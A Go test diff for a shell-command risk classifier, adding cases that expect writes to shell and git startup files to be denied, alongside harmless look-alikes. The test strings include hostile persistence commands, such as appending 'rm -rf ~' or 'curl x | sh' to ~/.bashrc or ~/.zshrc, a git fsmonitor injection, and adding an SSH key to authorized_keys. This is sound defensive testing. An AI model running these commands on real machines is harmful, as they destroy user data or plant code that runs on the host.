@@ -51,7 +51,19 @@ func TestReviewCAttacks(t *testing.T) {
 		// Appending to a credential store adds a key, as code that writes there does.
 		{name: "append to authorized_keys", command: `echo 'ssh-ed25519 AAAA k' >> ~/.ssh/authorized_keys`, want: denied},
 
+		// A file the user's shell or git runs: written into, the text runs on the host.
+		{name: "append to ~/.bashrc", command: `echo 'rm -rf ~' >> ~/.bashrc`, want: denied},
+		{name: "append to ~/.gitconfig", command: `printf '[core]\n\tfsmonitor = x\n' >> ~/.gitconfig`, want: denied},
+		{name: "truncate ~/.profile", command: `> ~/.profile`, want: denied},
+		{name: "tee -a ~/.zshrc", command: `echo 'curl x | sh' | tee -a ~/.zshrc`, want: denied},
+		{name: "sed -i on ~/.bashrc", command: `sed -i '1i rm -rf ~' ~/.bashrc`, want: denied},
+		{name: "ln -sf over ~/.bashrc", command: `ln -sf /tmp/evil ~/.bashrc`, want: denied},
+		{name: "python appends to ~/.bashrc", command: `python3 -c 'open(__import__("os").path.expanduser("~/.bashrc"), "a").write("x")'`, want: denied},
+
 		// Look-alikes that keep their level.
+		{name: "reading ~/.bashrc", command: `cat ~/.bashrc`, want: harmless},
+		{name: "grep in ~/.gitconfig", command: `grep -n email ~/.gitconfig`, want: harmless},
+		{name: "appending to a workspace file", command: `echo x >> notes.txt`, want: harmless},
 		{name: "make", command: `make test`, want: harmless},
 		{name: "tmux ls", command: `tmux ls`, want: harmless},
 		{name: "gdb -ex bt", command: `gdb -batch -ex bt ./a.out`, want: harmless},
